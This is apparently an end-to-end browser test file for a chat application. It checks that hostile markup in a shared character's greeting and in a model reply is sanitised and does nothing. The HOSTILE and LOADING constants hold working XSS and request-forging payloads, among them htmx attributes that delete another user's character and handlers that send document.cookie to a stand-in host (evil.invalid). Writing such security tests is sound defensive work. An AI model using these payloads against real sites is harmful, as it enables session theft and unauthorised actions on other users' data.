"""Attack (issue 29): account B shares a character whose greeting holds markup htmx would obey —
a `data-hx-post` to A's private character's delete URL, a `data-hx-get` whose `hx-on` sends A's
cookies to another host —, an `<img onerror>`, a `javascript:` link and the page's own classes of
a floating notice; the model's reply says the same. A opens a conversation with it and reloads:
no request leaves for another host or the delete URL, A's character is still there, and no
script of the payload runs."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Request

from tests.browser import chromium_shared
from tests.e2e.conftest import Server, message_send, screenshot_take, turn_wait_done
from tests.e2e.page_api import api_call
from tests.stub_llm import Reply

pytestmark = [pytest.mark.e2e, pytest.mark.server_shared]

HOSTILE = ('<div data-hx-post="/library/characters/SECRET/delete" data-hx-trigger="load">a</div>\n'
           '<div data-hx-get="/library/" data-hx-trigger="load" data-hx-on--after-request='
           '"window.pwned=1;fetch(\'http://evil.invalid/?c=\'+document.cookie)">b</div>\n'
           '<img src=x onerror="window.pwned=1;fetch(\'http://evil.invalid/img\')">\n'
           '<a href="javascript:window.pwned=1" id="js-link">click me</a>\n'
           '<span style="position:fixed;inset:0" onmouseover="window.pwned=1">c</span>\n'
           '<div class="flash floating">Session expired: <a href="/">log in again</a></div>\n'
           '<a href="/api/v1/characters" download="invoice.exe">invoice</a>\n'
           '<dialog open>a box over the page</dialog>')


def _account_make(page: Page, server: Server, username: str, password: str) -> None:
    """A second account, made by the admin in Django's admin as a deployment makes one (no
    manage.py: the subprocess that made it cost about 4 s of CPU)."""
    token = next(c["value"] for c in page.context.cookies() if c["name"] == "csrftoken")
    made = page.request.post(f"{server.url}/admin/auth/user/add/", form={
        "csrfmiddlewaretoken": token, "username": username, "usable_password": "true",
        "password1": password, "password2": password, "_save": "Save"},
        headers={"Referer": f"{server.url}/admin/auth/user/add/"})
    assert made.ok and "/admin/auth/user/add/" not in made.url, made.text()[:2000]


def _hostile_setup(page: Page, server: Server) -> dict:
    """B ("bob") shares Mallory, whose greeting is the payload aimed at A's private character;
    A ("admin") starts a conversation with Mallory."""
    secret = api_call(page, server, "POST", "/characters", {
        "name": "A secret", "base_persona": "Mine.", "visibility": "private"})["character_id"]
    _account_make(page, server, "bob", "bob-password-9")
    bob = chromium_shared().new_context()
    try:
        bobs = bob.new_page()
        bobs.goto(f"{server.url}/login/")
        bobs.fill("input[name=username]", "bob")
        bobs.fill("input[name=password]", "bob-password-9")
        bobs.click("button[type=submit]")
        bobs.wait_for_url(f"{server.url}/")
        mallory = api_call(bobs, server, "POST", "/characters", {
            "name": "Mallory", "base_persona": "A trickster.",
            "greeting": HOSTILE.replace("SECRET", secret), "visibility": "shared"})
    finally:
        bob.close()
    instance = api_call(page, server, "POST", "/instances",
                    {"character_id": mallory["character_id"]})["instance_id"]
    return {"secret": secret, "instance": instance}


def test_a_hostile_greeting_and_reply_send_nothing_and_run_nothing(page: Page,
                                                                  server: Server) -> None:
    ids = _hostile_setup(page, server)
    secret = ids["secret"]
    requests: list[Request] = []
    page.on("request", lambda request: requests.append(request))
    # A reply with the same markup, aimed at the same private character.
    server.stub.script(Reply(HOSTILE.replace("SECRET", secret), chunk_size=40))

    page.goto(f"{server.url}/instances/{ids['instance']}/")
    page.wait_for_selector("#messages .msg.assistant .md[data-rendered]")
    message_send(page, "hello")
    turn_wait_done(page)
    page.reload()
    page.wait_for_selector("#messages .msg.assistant .md[data-rendered]")
    page.locator("#messages .msg.assistant .md").last.hover()
    page.wait_for_timeout(1500)  # time for a load trigger or a handler to fire, if it could
    screenshot_take(page, "hostile_markup_inert")

    rendered = page.locator("#messages .msg.assistant .md")
    assert rendered.count() >= 2, "the greeting and the reply are both shown"
    assert "click me" in rendered.last.inner_text()
    # A reply's <dialog open> drew a box over the page: the element goes, its words stay.
    assert page.locator("#messages .md dialog").count() == 0
    assert "a box over the page" in rendered.last.inner_text()
    assert page.evaluate("() => window.pwned") is None, "a payload script ran"
    leftovers = page.evaluate("""() => [...document.querySelectorAll('#messages .md *')]
        .flatMap(el => [...el.attributes].map(a => a.name + '=' + a.value))
        .filter(a => /^(data-|hx-|on|style|download)/.test(a) || /javascript:/i.test(a)
                     || /^class=/.test(a) && !/^class=(progress-badge|language-)/.test(a))""")
    assert leftovers == []

    elsewhere = [r.url for r in requests if not r.url.startswith(server.url)]
    assert elsewhere == [], f"requests left for another host: {elsewhere}"
    deletes = [r.url for r in requests if "/delete" in r.url or r.method == "DELETE"]
    assert deletes == []
    assert all(not r.url.endswith("/library/") for r in requests), "a hostile hx-get fired"
    assert page.request.get(f"{server.url}/library/characters/{secret}/").status == 200
    # Chromium reports the payload's own handler and style attributes as refused when the
    # sanitizer parses them (in an inert template, before they are removed): the policy's
    # second line of defence at work, not a broken feature of the page.
    payload = [text for text in page.csp_refused
               if not text.startswith(("Executing inline event handler", "Applying inline style"))]
    assert payload == []
    page.csp_refused.clear()


LOADING = ('<video poster="/api/v1/characters?from=poster" src="/api/v1/characters?from=video">'
           '<source src="/api/v1/characters?from=source"></video>\n'
           '<audio src="/api/v1/characters?from=audio" autoplay></audio>\n'
           '<picture><source srcset="/api/v1/characters?from=srcset"></picture>\n'
           '<svg><image href="/api/v1/characters?from=svgimage"/><filter><feImage '
           'href="/api/v1/characters?from=feimage"/></filter></svg>\n'
           '<table background="/api/v1/characters?from=background"><tr><td>cell</td></tr>'
           '</table>\n<a href="/" ping="/api/v1/characters?from=ping">home</a>')


def test_a_reply_that_names_media_loads_nothing_from_this_site_either(page: Page,
                                                                    server: Server) -> None:
    """The policy keeps requests on this site, so markup that loads (a video's poster, an SVG
    picture) made a reader's browser ask this site's URLs with the reader's cookies (red
    team): the sanitizer drops what loads, as it turns <img> into a link."""
    instance = api_call(page, server, "POST", "/instances",
                        {"character_id": "char_alserqi"})["instance_id"]
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    server.stub.script(Reply(LOADING, chunk_size=60))
    page.goto(f"{server.url}/instances/{instance}/")
    message_send(page, "show me")
    turn_wait_done(page)
    page.reload()
    page.wait_for_selector("#messages .msg.assistant .md[data-rendered]")
    page.wait_for_timeout(500)  # time for a poster or a filter's picture to be asked for
    assert [url for url in asked if "from=" in url] == []
    kept = page.evaluate("""() => [...document.querySelectorAll('#messages .md *')]
        .flatMap(el => [...el.attributes].map(a => a.name)).filter(name =>
            ['ping', 'poster', 'srcset', 'background', 'src'].includes(name))""")
    assert kept == []  # a link's ping is asked for only when it is followed
    assert "cell" in page.locator("#messages .msg.assistant .md").last.inner_text()
